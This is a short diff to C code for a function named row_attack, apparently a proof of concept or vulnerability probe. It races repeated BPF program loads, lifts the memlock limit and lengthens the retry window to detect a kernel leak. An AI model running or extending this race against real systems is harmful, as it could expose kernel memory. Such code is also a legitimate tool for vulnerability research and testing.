@@ -6,11 +6,14 @@
 #include <sched.h>
 #include <stdatomic.h>
 #include <stdio.h>
+#include <sys/resource.h>
+#include <time.h>
 
 #include "insn.h"
 #include "row.h"
 
 #define TRIES 300
+#define LONG_ENOUGH 20 // seconds; the other thread may not run for a while
 #define HOLD 8
 
 static union bpf_attr attr;
@@ -50,8 +53,11 @@ enum row_result row_attack(const struct row_victim *victim)
 {
     static struct bpf_insn program[] = {SET(BPF_REG_0, 0), END};
     enum row_result result = ROW_ABSENT;
+    // Before 5.11 programs count against it, also for a while after they are closed; more are refused by EPERM.
+    const struct rlimit any = {RLIM_INFINITY, RLIM_INFINITY};
     pthread_t thread;
     (void)victim;
+    (void)setrlimit(RLIMIT_MEMLOCK, &any);
     attr = (union bpf_attr){.prog_type = BPF_PROG_TYPE_SOCKET_FILTER,
                             .insns = (unsigned long)program,
                             .insn_cnt = sizeof(program) / sizeof(program[0]),
@@ -60,7 +66,9 @@ enum row_result row_attack(const struct row_victim *victim)
         return ROW_ABSENT;
     }
     stay_on(0);
-    for (int i = 0; i < TRIES && result != ROW_LEAKED; i++) {
+    const time_t end = time(NULL) + LONG_ENOUGH;
+    for (int i = 0;
+         result != ROW_LEAKED && (i < TRIES || (result == ROW_ABSENT && time(NULL) < end)); i++) {
         long loaded = row_bpf(BPF_PROG_LOAD, &attr);
         if (loaded >= 0) {
             result = may_read(loaded) ? ROW_LEAKED : result;
